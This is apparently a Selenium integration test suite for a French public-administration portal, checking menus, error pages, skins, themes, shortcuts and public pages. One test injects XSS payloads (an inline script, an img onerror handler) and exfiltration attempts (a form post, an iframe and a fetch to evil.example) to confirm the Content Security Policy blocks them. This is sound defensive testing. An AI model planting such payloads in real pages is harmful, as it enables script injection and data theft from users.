package fr.hubee.it.portal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import fr.hubee.exchange.status.CaseStatus;
import fr.hubee.it.desk.ListedCases;
import fr.hubee.it.world.Answer;
import fr.hubee.it.world.Database;
import fr.hubee.it.world.NewPerson;
import fr.hubee.it.world.NewTown;
import fr.hubee.it.world.Partner;
import fr.hubee.it.world.Stored;
import fr.hubee.people.account.ActorType;
import fr.hubee.portal.frame.PublicText;
import java.sql.SQLException;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.Keys;

/** Checks the frame of every page: the menu of each person, refusals, failures, light and dark colours, skins, shortcuts; and the public pages. */
class FrameIT extends InBrowser {
    static final List<String> COLOURS = Stream.of(
                    ("ground surface raised text muted line field-line accent accent-strong"
                                    + " accent-soft on-accent focus danger danger-soft success success-soft warning warning-soft")
                            .split(" ", -1))
            .map("--"::concat)
            .toList();

    static Answer answer(String path) {
        return Partner.send(Partner.to(path));
    }

    static Visitor agent() {
        return Visitor.agent(NewTown.fresh().registered());
    }

    @Test
    void anAddressThatLeadsNowhereIsReportedInTheFrame() {
        chrome.signIn(agent()).open("/nulle-part");

        assertEquals("Cette page n’existe pas", chrome.title());
        assertEquals("Camille Verneuil", chrome.text(".who-name"));
        chrome.expectingError(404).judge("erreur-404");

        chrome.open("/nulle-part.xhtml").expectingError(404);
        assertEquals("Cette page n’existe pas", chrome.title());
    }

    @Test
    void thePagesOfOthersAreRefusedWhateverTheirAddressLooksLike() {
        chrome.signIn(agent());
        for (var path : new String[] {"/journal", "/organisations", "/demarches.xhtml"}) {
            chrome.open(path).expectingError(403);
            assertEquals("Cette page ne vous est pas ouverte", chrome.title(), path);
        }
        chrome.judge("erreur-403");
        assertFalse(chrome.has(".menu a[href='/journal']"));
    }

    @Test
    void theNationalAdministratorFindsEverythingFromHerHomePage() {
        chrome.signIn(Visitor.national()).open("/accueil").judge("accueil-national");
        assertTrue(chrome.has(".cards a[href='/organisations']"));

        chrome.open("/organisations");
        assertEquals("page", chrome.find(".menu a[href='/organisations']").getDomAttribute("aria-current"));
    }

    /** Checks the warning for administrators alone: the server of the tests has no antivirus. */
    @Test
    void administratorsAndNobodyElseAreInformedThatNoAntivirusLooksAtFiles() {
        assertTrue(chrome.signIn(Visitor.national()).open("/accueil").has("#unscanned"));

        var agent = Visitor.agent(NewTown.fresh().registered(), "EtatCivil");
        assertFalse(chrome.signIn(agent).open("/accueil").has("#unscanned"));
    }

    @Test
    void aGroupOfTheMenuOpensByTheKeyboardAndClosesWithEscapeOrAClickOutside() {
        chrome.signIn(Visitor.national()).open("/organisations");
        assertTrue(chrome.text(".menu .here").startsWith("Référentiel"));

        chrome.reach(".menu summary.here").keys(Keys.ENTER);
        chrome.await(".menu details[open] a[aria-current=page]").judge("menu-ouvert");
        chrome.keys(Keys.ESCAPE);
        assertFalse(chrome.has(".menu details[open]"));
        assertTrue(chrome.focused().contains("Référentiel"), chrome.focused());

        chrome.touch(".menu summary.here").touch("h1");
        assertFalse(chrome.has(".menu details[open]"));
    }

    @Test
    void theMenuShowsTheListThatADetailBelongsTo() {
        var national = Visitor.national();
        chrome.signIn(national).open("/compte?id=" + national.id());

        assertEquals("true", chrome.find(".menu a[href='/comptes']").getDomAttribute("aria-current"));
    }

    @Test
    void whoHasNoRoleIsShownWhomToAsk() {
        var nobody = Visitor.of(NewPerson.camille(NewTown.fresh().registered().organizationKey(), ActorType.AGENT)
                .roles(Set.of()));

        chrome.signIn(nobody).open("/accueil").judge("accueil-sans-role");

        chrome.shows("Demandez à l’administrateur local");
    }

    @Test
    void aVisitorWithoutASessionIsSentToTheSignInPage() {
        chrome.signOut().open("/organisations?page=2");

        assertEquals("/connexion", chrome.path());
        assertFalse(chrome.has(".menu"));
        chrome.hides("session");
    }

    @Test
    void whatFailsIsReportedInTheFrameWithAReferenceForTheSupport() {
        var town = NewTown.fresh().registered();
        var colleague = Visitor.agent(town);
        chrome.signIn(Visitor.administrator(town));
        try {
            Stored.account(colleague.id()).set("civility = 'BROKEN'");
            chrome.open("/compte?id=" + colleague.id()).expectingError(500);
        } finally {
            Stored.account(colleague.id()).set("civility = 'MME'");
        }

        assertEquals("Un incident est survenu", chrome.title());
        assertTrue(chrome.text("#reference").matches("[0-9a-f-]{36}"));
        chrome.hides("BROKEN");
        chrome.judge("erreur-500").follow("main a[href='/contact#incident']");
        assertEquals("Nous contacter", chrome.title());
    }

    @Test
    void whatSomebodyElseChangedMeanwhileIsReportedInTheFrame() {
        chrome.signIn(agent()).open("/fichiers/entre-temps").expectingError(409);

        assertEquals("Quelqu’un d’autre a changé ceci entre-temps", chrome.title());
        chrome.shows("Ce télédossier est « Traité ».");
        chrome.judge("erreur-409");
    }

    @Test
    void aPageWithoutComponentsLoadsThreeSheetsBeforeTheSkinAndNoneOfPrimeFaces() {
        chrome.open("/connexion");

        assertEquals(
                List.of("hubee.css", "pieces.css", "pages.css", "skin.css"),
                chrome.script("return [...document.styleSheets].map(sheet => /[^/]+[.]css/.exec(sheet.href)[0])"));
        chrome.assertNoTrouble();
    }

    @Test
    void aSkinThatLiesNextToTheEarIsLoadedAfterOurs() {
        chrome.open("/connexion");

        var sheets = (List<?>) chrome.script(
                "return [...document.querySelectorAll('link[rel=stylesheet]')].map(link => link.getAttribute('href'))");

        var sheet = (String) sheets.get(sheets.size() - 1);
        assertTrue(sheet.matches("/jakarta.faces.resource/skin.css.*ln=hubee-skin.*[?&]c=[0-9a-f]+"), sheet);
        var picture = Pattern.compile("--skin-of-the-tests: url\\(\"(.+?)\"\\)")
                .matcher(answer(sheet).text());
        assertTrue(picture.find(), () -> answer(sheet).text());
        var seen = answer(picture.group(1));
        seen.expect(200, picture.group(1));
        assertTrue(seen.text().startsWith("<svg"), seen::text);
        assertEquals(
                "yes",
                chrome.script(
                        "return getComputedStyle(document.documentElement).getPropertyValue('--imported-by-the-skin').trim()"));
        chrome.assertNoTrouble();
    }

    /** Finds the colours of a page that no property of the skin sets; browsers draw boxes to tick, and a QR code is black on white. */
    private static final String STRAY_COLOURS = """
            const probe = document.body.appendChild(document.createElement("i"));
            const known = new Set(arguments[0].map((name) => {
              probe.style.color = `var(${name})`;
              return getComputedStyle(probe).color;
            }));
            probe.remove();
            const seen = (colour) => !/^rgba\\(.*, 0\\)$|^color\\(/.test(colour);
            return [...document.body.querySelectorAll("*:not(option, [type=checkbox], [type=radio], .qr *)")].filter((each) => each.checkVisibility()).flatMap((each) => {
              const style = getComputedStyle(each);
              return [style.color, style.backgroundColor, ...["Top", "Right", "Bottom", "Left"]
                  .filter((side) => parseFloat(style[`border${side}Width`]) > 0).map((side) => style[`border${side}Color`])]
                .filter((colour) => seen(colour) && !known.has(colour)).map((colour) => `${each.outerHTML.slice(0, 90)}: ${colour}`);
            });
            """;

    @Test
    void aPlainSkinColoursAllThatAPageHas() throws SQLException {
        var town = NewTown.fresh().registered();
        new ListedCases(Database::change, town.organizationKey())
                .add("EtatCivil", CaseStatus.SENT, ListedCases.NOON, "AEC-1", "Lovelace", "Ada");
        for (var path : List.of("/connexion", "/api-referentiel")) {
            assertPlain(chrome.signOut().open(path));
        }
        chrome.signIn(Visitor.agent(town, "EtatCivil"));
        assertPlain(chrome.open("/accueil"));
        assertPlain(chrome.open("/teledossiers?statut=tous"));
        assertPlain(chrome.follow("tbody a"));
        chrome.signIn(Visitor.national());
        assertPlain(chrome.open("/demarche?code=CERTDC"));
        assertPlain(chrome.open("/organisations"));
    }

    static void assertPlain(Chrome page) {
        var ours = page.find("body").getCssValue("background-color");
        page.script("document.documentElement.classList.add('plain')");
        assertNotEquals(ours, page.find("body").getCssValue("background-color"));
        assertEquals(List.of(), page.script(STRAY_COLOURS, COLOURS), page::path);
        page.judge("plain" + page.path());
    }

    @Test
    void whatIsBroughtIntoAPageNeitherRunsNorLeavesItAndIsReported() {
        for (var brought : List.of(
                "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
                "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">lu</p>')",
                "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.ran = true\">')",
                "document.body.insertAdjacentHTML('beforeend', '<form id=leak method=post action=\"http://evil.example/\">');"
                        + " document.getElementById('leak').submit()",
                "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"http://evil.example/\"></iframe>')",
                "fetch('http://evil.example/').catch(() => {})")) {
            chrome.open("/aide").assertNoTrouble();
            chrome.script(brought);
            assertEquals(true, chrome.script("return window.ran === undefined"), brought);
            assertTrue(chrome.trouble().stream().anyMatch(each -> each.contains("Content Security Policy")), brought);
            assertEquals("/aide", chrome.path(), brought);
        }
    }

    @Test
    void softwareIsAnsweredAsBefore() {
        var answer = Partner.of("demo-admin").get("/nulle-part").expect(404);

        assertEquals("Not found", answer.error());
    }

    @Test
    void darkIsChosenAtOnceAndStays() {
        chrome.signIn(agent()).open("/profil").touch(".theme button[value=sombre]");
        assertEquals("sombre", chrome.find("html").getDomAttribute("data-theme"));
        var dark = chrome.find("body").getCssValue("background-color");

        chrome.await(".theme button[value=sombre][aria-pressed=true]").open("/aide");
        assertEquals("sombre", chrome.find("html").getDomAttribute("data-theme"));
        assertEquals(dark, chrome.find("body").getCssValue("background-color"));

        chrome.touch(".theme button[value=clair]");
        assertFalse(dark.equals(chrome.find("body").getCssValue("background-color")));
        chrome.await(".theme button[value=clair][aria-pressed=true]").assertNoTrouble();
    }

    @Test
    void aQuestionMarkShowsTheShortcutsAndTheyCanBeTurnedOff() {
        chrome.signIn(agent()).open("/profil").keys("?");
        assertTrue(chrome.await("#shortcuts[aria-hidden=false]")
                .find("#shortcuts")
                .getText()
                .contains("Montrer cette liste"));
        chrome.touch("#shortcuts-on").keys(Keys.ESCAPE);
        assertFalse(chrome.has(".ui-dialog[aria-hidden=false]"));

        chrome.keys("?");
        assertFalse(chrome.has(".ui-dialog[aria-hidden=false]"));

        chrome.judgeDialog("raccourcis", "[data-opens=shortcuts]");
        chrome.touch("[data-opens=shortcuts]").touch("#shortcuts-on").keys(Keys.ESCAPE);
    }

    @Test
    void whatBrowsersMayKeepSaysWhatItContains() {
        chrome.signIn(agent()).open("/profil");

        var sheet = chrome.find("link[rel=stylesheet]").getDomAttribute("href");
        assertTrue(sheet.matches(".*[?&]c=[0-9a-f]+"), sheet);
        var answer = answer(sheet).expect(200);
        assertTrue(answer.response().headers().firstValue("Expires").isPresent()
                || answer.response().headers().firstValue("Cache-Control").isPresent());
        assertEquals(
                "no-store",
                answer("/aide").response().headers().firstValue("Cache-Control").orElse(""));
    }

    // The pages that everybody may read.

    @Test
    void publicPagesAreLinkedFromTheFootAndNeedNoSignIn() {
        for (var text : PublicText.values()) {
            chrome.signOut()
                    .open("/connexion")
                    .touch(".footer a[href='" + text.path() + "']")
                    .await("main.page .prose");
            assertEquals(text.path(), chrome.path());
            chrome.judge(text.path().substring(1));
        }
    }

    @Test
    void theSiteMapLeadsEverywhere() {
        chrome.signOut().open("/plan-du-site").judge("plan-du-site");
        assertTrue(chrome.has("main a[href='/aide']"));
        assertTrue(chrome.has("main a[href='/connexion']"));
    }

    @Test
    void theGuidesForEngineersAreReadWithoutSigningIn() {
        chrome.signOut().open("/documentation").judge("documentation").touch("#guides a[href$='/une-journee']");
        chrome.await(".prose pre").judge("une-journee");
        chrome.touch("main a[href$='/documentation/api-fr']").await("#léchange-en-une-minute");
        assertEquals("/documentation/api-fr", chrome.path());
        chrome.judge("api-fr");
        assertEquals(404, Partner.send(Partner.to("/documentation/onboarding")).status());
    }

    @Test
    void theContractOfEachApiIsReadWithHeadingsAndAnchors() {
        for (var api : List.of("/api", "/api-referentiel", "/api-evenements")) {
            chrome.signOut().open(api).judge(api.substring(1));
            assertFalse(chrome.has("main script, main table"), api);
            for (var link :
                    (List<?>) chrome.script("return [...document.querySelectorAll('main nav a')].map(a => a.hash)")) {
                assertTrue(chrome.has(":is(h2, h3)" + link), () -> api + link);
            }
        }
        chrome.open("/api").touch("main nav a[href='#createevent']");
        assertEquals("Add an event to a case", chrome.text("h3:target"));
        chrome.shows("POST /teledossiers/v1/cases/{caseId}/events", "caseNewStatus");
    }

    @Test
    void theAddressWithoutAPathLeadsToTheSignInPage() {
        assertEquals("/connexion", chrome.signOut().open("/").path());
    }
}
